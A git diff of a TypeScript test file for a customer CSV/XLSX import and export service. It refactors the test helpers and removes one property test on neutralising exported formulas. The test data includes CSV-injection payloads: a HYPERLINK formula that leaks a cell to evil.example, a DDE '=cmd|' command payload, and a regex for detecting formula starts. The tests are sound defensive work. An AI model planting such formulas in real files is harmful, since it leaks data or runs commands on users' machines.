@@ -9,31 +9,22 @@ import { parse } from 'csv-parse/sync';
 import { stringify } from 'csv-stringify/sync';
 import ExcelJS from 'exceljs';
 import fc from 'fast-check';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { beforeAll, describe, expect, it } from 'vitest';
 import { maxUploadBytes } from '../../src/api/routes/file-job-routes';
 import { maxImportRows, maxUnpackedXlsxBytes } from '../../src/files/read-table-file';
-import { writeTableFile } from '../../src/files/write-table-file';
-import { body, startTestSystem, type TestSystem } from '../support/running-system';
-import { createTestDatabaseLocation, type TestDatabaseLocation } from '../support/test-databases';
+import { xlsxFile } from '../support/factories';
+import { body, useTestSystem } from '../support/running-system';
 
 const xlsxType = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
 /** What a spreadsheet runs as a formula when a cell starts with it (OWASP). */
 const formulaStart = /^[=+\-@\t\r]/;
 const formulas = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "=cmd|' /C calc'!A0", '@SUM(1+1)', '+1+1', '-2+3'];
 
-let location: TestDatabaseLocation;
-let rulebook: TestSystem;
+const rulebook = useTestSystem();
 
 beforeAll(async () => {
-  location = await createTestDatabaseLocation();
-  rulebook = await startTestSystem(location);
-  const existing = await rulebook.api('/v1/customers', { method: 'POST', json: { id: 'H-existing', email: 'existing@example.com', phone: '+919700000000' } });
+  const existing = await rulebook.post('/v1/customers', { id: 'H-existing', email: 'existing@example.com', phone: '+919700000000' });
   expect(existing.status).toBe(201);
-});
-
-afterAll(async () => {
-  await rulebook?.system.stop();
-  await location?.drop();
 });
 
 /** Uploads a file as a customer import and waits for the job's end. */
@@ -58,13 +49,6 @@ async function storedCustomers(idPrefix: string) {
     'SELECT id, email, phone, name, attributes FROM customers WHERE id LIKE $1 ORDER BY id',
     [`${idPrefix}%`],
   );
-}
-
-async function xlsx(rows: ExcelJS.CellValue[][]): Promise<Buffer> {
-  const workbook = new ExcelJS.Workbook();
-  const sheet = workbook.addWorksheet('customers');
-  for (const row of rows) sheet.addRow(row);
-  return Buffer.from(await workbook.xlsx.writeBuffer());
 }
 
 async function expectProblem(res: Response, status: number, detail: RegExp) {
@@ -124,7 +108,7 @@ describe('customer imports: columns', () => {
   for (const format of ['csv', 'xlsx'] as const) {
     it.each(files)(`fails a ${format.toUpperCase()} file with %s, saying what to fix, and imports nothing`, async (_name, rows, failure) => {
       const customersBefore = await count('customers');
-      const job = await imported(format === 'csv' ? stringify(rows) : await xlsx(rows as ExcelJS.CellValue[][]), format === 'csv' ? 'text/csv' : xlsxType);
+      const job = await imported(format === 'csv' ? stringify(rows) : await xlsxFile(rows as ExcelJS.CellValue[][]), format === 'csv' ? 'text/csv' : xlsxType);
       expect(job).toMatchObject({ status: 'failed', okRows: 0 });
       expect(job.failure).toMatch(failure);
       expect(await count('customers')).toBe(customersBefore);
@@ -141,7 +125,7 @@ describe('customer imports: columns', () => {
   });
 
   it('fails an XLSX workbook without any cell: it has no header row', async () => {
-    const job = await imported(await xlsx([]), xlsxType);
+    const job = await imported(await xlsxFile([]), xlsxType);
     expect(job).toMatchObject({ status: 'failed', failure: expect.stringMatching(/^The file has no header row\./) });
   });
 
@@ -186,7 +170,7 @@ describe('customer imports: formulas', () => {
   });
 
   it('reports an XLSX formula cell with its row and cell instead of trusting its cached value, and imports the other rows', async () => {
-    const file = await xlsx([
+    const file = await xlsxFile([
       ['id', 'email', 'name'],
       ['H-xf-1', 'xf.1@example.com', 'Plain Value'],
       ['H-xf-2', 'xf.2@example.com', { formula: 'HYPERLINK("http://evil.example","Click")', result: 'Click' }],
@@ -336,7 +320,7 @@ describe('customer imports: encodings', () => {
 /** A test file: bytes as given, or a clean workbook damaged in a named way. */
 async function hostileFile(file: string | Buffer): Promise<Buffer> {
   if (Buffer.isBuffer(file)) return file;
-  const workbook = await xlsx([['email'], ['damaged@example.com']]);
+  const workbook = await xlsxFile([['email'], ['damaged@example.com']]);
   if (file === 'truncated') return workbook.subarray(0, Math.floor(workbook.length / 2));
   if (file === 'damaged') {
     // Overwrite the first entry's deflated data (after its 30-byte header and name) with garbage.
@@ -436,7 +420,7 @@ describe('customer imports: a file of valid and invalid rows (property)', () => 
         }
         const file =
           format === 'xlsx'
-            ? await xlsx([header, ...lines.map((line) => line.cells)])
+            ? await xlsxFile([header, ...lines.map((line) => line.cells)])
             : Buffer.concat([
                 Buffer.from(stringify([header])),
                 ...lines.map((line) => Buffer.from(`${line.blankLineBefore ? '\n' : ''}${stringify([line.cells])}`, line.latin1 ? 'latin1' : 'utf8')),
@@ -480,7 +464,7 @@ describe('customer imports: a file of valid and invalid rows (property)', () => 
 describe('upload routes', () => {
   it('answer whatever is sent with 2xx or 4xx problem+json, and every accepted job ends with a clear status', async () => {
     const validCsv = Buffer.from('email,name\nroutes@example.com,Routes\n');
-    const workbook = await xlsx([['email'], ['routes.xlsx@example.com']]);
+    const workbook = await xlsxFile([['email'], ['routes.xlsx@example.com']]);
     const bodies = fc.oneof(
       fc.constantFrom(validCsv, workbook, workbook.subarray(0, 100), Buffer.alloc(0), Buffer.from('email\n')),
       fc.uint8Array({ maxLength: 200 }).map((bytes) => Buffer.from(bytes)),
@@ -539,16 +523,16 @@ describe('customer exports', () => {
     // U+FFFE is valid JSON and UTF-8 but not XML: written as it is, it would make the whole workbook unreadable.
     const values = [...formulas, '\t=1+1', '\r=1+1', '=1+1\n', 'Not\uFFFEXml'];
     for (const [index, value] of values.entries()) {
-      const created = await rulebook.api('/v1/customers', { method: 'POST', json: { id: `H-export-${index}`, email: `export.${index}@example.com`, name: value } });
+      const created = await rulebook.post('/v1/customers', { id: `H-export-${index}`, email: `export.${index}@example.com`, name: value });
       expect(created.status).toBe(201);
       // Attributes are stored as sent, leading tab or carriage return included.
-      const changed = await rulebook.api(`/v1/customers/H-export-${index}`, { method: 'PATCH', json: { attributes: { city: value }, changedBy: 'hostile-test' } });
+      const changed = await rulebook.patch(`/v1/customers/H-export-${index}`, { attributes: { city: value }, changedBy: 'hostile-test' });
       expect(changed.status).toBe(200);
     }
   });
 
   async function exported(format: 'csv' | 'xlsx'): Promise<Buffer> {
-    const res = await rulebook.api('/v1/customers/exports', { method: 'POST', json: { format, requestedBy: 'hostile-test' } });
+    const res = await rulebook.post('/v1/customers/exports', { format, requestedBy: 'hostile-test' });
     expect(res.status).toBe(202);
     const job = await rulebook.finishedJob(res.headers.get('location')!);
     expect(job.status).toBe('complete');
@@ -580,36 +564,6 @@ describe('customer exports', () => {
       }),
     );
     expect(checked).toBeGreaterThan(50);
-  });
-
-  it('write no CSV or XLSX cell that a spreadsheet would run, whatever the text (property)', async () => {
-    const start = fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", '\uFFFE', '\u0001');
-    const cell = fc.oneof(fc.string({ unit: 'binary', maxLength: 30 }), fc.tuple(start, fc.string({ maxLength: 20 })).map(([first, rest]) => first + rest));
-    await fc.assert(
-      fc.asyncProperty(fc.array(fc.array(cell, { minLength: 1, maxLength: 4 }), { minLength: 1, maxLength: 5 }), async (rows) => {
-        const header = ['a', 'b', 'c', 'd'];
-        async function* pages() {
-          yield rows;
-        }
-        const csv = parse(await writeTableFile('csv', header, pages()), { relax_column_count: true }) as string[][];
-        const workbook = new ExcelJS.Workbook();
-        await workbook.xlsx.load((await writeTableFile('xlsx', header, pages())) as unknown as ArrayBuffer);
-        const written: ExcelJS.CellValue[][] = [];
-        workbook.worksheets[0]!.eachRow((row, number) => {
-          written[number - 1] = Array.isArray(row.values) ? row.values.slice(1) : [];
-        });
-        for (const [index, row] of rows.entries()) {
-          const expected = row.map((text) => (formulaStart.test(text) ? `'${text}` : text));
-          expect(csv[index + 1]).toEqual(expected);
-          // XML holds no control characters and reads every line break as \n; XLSX cells are that text, never formulas.
-          const inXml = expected.map((text) => text.replace(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\uFFFE\uFFFF]|\p{Cs}/gu, '\uFFFD').replace(/\r\n?/g, '\n'));
-          const cells = Array.from(written[index + 1] ?? [], (value) => value ?? '');
-          expect([...cells, ...inXml.slice(cells.length)]).toEqual(inXml);
-          expect(inXml.slice(cells.length).every((text) => text === '')).toBe(true);
-        }
-      }),
-      { numRuns: 100 },
-    );
   });
 
   it('neutralise column names an uploaded file brings into an error file', async () => {
